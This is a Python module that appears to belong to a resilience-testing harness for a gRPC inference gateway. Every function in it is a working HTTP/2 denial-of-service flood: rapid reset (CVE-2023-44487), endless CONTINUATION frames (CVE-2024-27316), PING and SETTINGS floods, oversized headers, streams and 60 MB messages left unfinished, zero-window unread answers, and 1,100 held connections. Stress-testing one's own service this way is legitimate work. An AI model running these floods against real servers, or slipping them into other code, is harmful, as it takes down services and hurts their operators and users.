"""Attacks on the gRPC port, in frames of their own making; attacks_http.py says what they return."""

import itertools
import struct
import threading
import time

import wire
from attacks_http import hold, in_parallel

CALL = wire.call_headers("Generate")


def floods(count, flood):
    """`count` threads that do flood(started) again and again."""
    return lambda started: in_parallel(count, lambda _: flood(started))


class Flood:
    """A connection that only sends; what comes back is read by a thread and thrown away."""

    def __init__(self, target, window=65535):
        self.connection = wire.connect(target, 30)
        self.connection.sendall(wire.PREFACE + wire.settings(initial_window_size=window))
        threading.Thread(target=self.drain, daemon=True).start()
        self.stream = -1

    def drain(self):
        try:
            while self.connection.recv(1 << 16):
                pass
        except OSError:
            pass

    def next_stream(self):
        self.stream += 2
        if self.stream > 0x7FFF0000:
            raise ConnectionError("no stream ids left")
        return self.stream


def rapid_reset(options):
    """Calls that are reset as soon as they are begun (CVE-2023-44487), on four connections."""
    def flood(started):
        peer = Flood(options.grpc)
        try:
            while True:
                burst = bytearray()
                for _ in range(200):
                    stream = peer.next_stream()
                    burst += wire.frame(wire.HEADERS, wire.END_HEADERS, stream, CALL)
                    burst += wire.frame(wire.RST_STREAM, 0, stream, struct.pack(">I", wire.CANCEL))
                peer.connection.sendall(burst)
                started()
        finally:
            peer.connection.close()

    return floods(4, flood)


def continuation(options):
    """A header block that never ends: CONTINUATION after CONTINUATION (CVE-2024-27316), on four connections."""
    block = b"".join(wire.header(f"x-{i:04}", "y" * 100) for i in range(140))
    pieces = wire.frame(wire.CONTINUATION, 0, 1, block) * 16

    def flood(started):
        peer = Flood(options.grpc)
        try:
            peer.connection.sendall(wire.frame(wire.HEADERS, 0, peer.next_stream(), CALL))
            while True:
                peer.connection.sendall(pieces)
                started()
        finally:
            peer.connection.close()

    return floods(4, flood)


def large_headers(options):
    """Calls with 64 KB of headers, in frames as they should be."""
    block = CALL + b"".join(wire.header(f"x-{i:04}", "y" * 100) for i in range(580))

    def flood(started):
        peer = Flood(options.grpc)
        try:
            while True:
                stream = peer.next_stream()
                cuts = range(0, len(block), wire.MAX_FRAME)
                for cut in cuts:
                    last = wire.END_HEADERS if cut == cuts[-1] else 0
                    kind = wire.HEADERS if cut == 0 else wire.CONTINUATION
                    peer.connection.sendall(wire.frame(kind, last, stream, block[cut:cut + wire.MAX_FRAME]))
                started()
        finally:
            peer.connection.close()

    return floods(4, flood)


def unfinished_streams(options):
    """Calls of a method that begin and never send their request, a hundred thousand a connection, and 16 KB of each."""
    part = b"\0" + struct.pack(">I", 1 << 20) + b"x" * 16000

    def flood(started):
        peer = Flood(options.grpc)
        try:
            for _ in range(100_000):
                stream = peer.next_stream()
                peer.connection.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, CALL) +
                                        (wire.frame(wire.DATA, 0, stream, part) if stream < 8 else b""))
                started()
            time.sleep(600)
        finally:
            peer.connection.close()

    return floods(8, flood)


def unfinished_messages(options):
    """Messages of 60 MB that come but for their last byte, on 32 connections."""
    message = b"\0" + struct.pack(">I", 60 << 20) + bytes((60 << 20) - 1)
    turn, made = threading.Lock(), itertools.count()

    def flood(started):
        # Memory is the aim: connections that were ended are made again, 20 a second.
        if next(made) >= 32:
            with turn:
                time.sleep(0.05)
        peer = wire.GrpcConnection(options.grpc, 30)
        try:
            peer.send("Tokenize", message, finish=False)
            started()
            time.sleep(600)
        finally:
            peer.close()

    def attack(started):
        in_parallel(32, lambda _: flood(started))
        # Where windows or memory are bounded no message gets to its last byte.
        threading.Timer(2, started).start()

    return attack


def unread_answers(options):
    """Hundreds of calls on a connection whose answers have no window, so that the gateway has to keep them."""
    request = wire.message(wire.tokenize_request("a b" * 3000))

    def flood(started):
        peer = Flood(options.grpc, window=0)
        try:
            for _ in range(2000):
                stream = peer.next_stream()
                peer.connection.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, wire.call_headers("Tokenize")) +
                                        wire.frame(wire.DATA, wire.END_STREAM, stream, request))
                time.sleep(0.001)
                started()
            time.sleep(600)
        finally:
            peer.connection.close()

    return floods(8, flood)


def pings(options):
    """PING and SETTINGS frames that all want an answer (CVE-2019-9512, CVE-2019-9515)."""
    burst = (wire.frame(wire.PING, 0, 0, b"12345678") + wire.settings(initial_window_size=65535)) * 500

    def flood(started):
        peer = Flood(options.grpc)
        try:
            while True:
                peer.connection.sendall(burst)
                started()
        finally:
            peer.connection.close()

    return floods(4, flood)


def connections(options):
    """1,100 connections to the gRPC port that have sent HTTP/2's preface."""
    return lambda started: hold(options.grpc, wire.PREFACE + wire.settings(), 1100, started)


def tokenize(options):
    """Tokenize of 63 MB over gRPC."""
    request = wire.message(wire.tokenize_request("a b" * (21 << 20)))

    def ask(started):
        peer = wire.GrpcConnection(options.grpc, 10)
        try:
            peer.send("Tokenize", request)
            started()
            peer.answer()
        finally:
            peer.close()

    def attack(started):
        in_parallel(2, lambda _: ask(started))
        threading.Timer(2, started).start()

    return attack


ATTACKS = {
    "rapid-reset": rapid_reset, "continuation": continuation, "large-headers": large_headers,
    "unfinished-streams": unfinished_streams, "unfinished-messages": unfinished_messages,
    "unread-answers": unread_answers, "pings": pings, "connections-grpc": connections, "tokenize-grpc": tokenize,
}
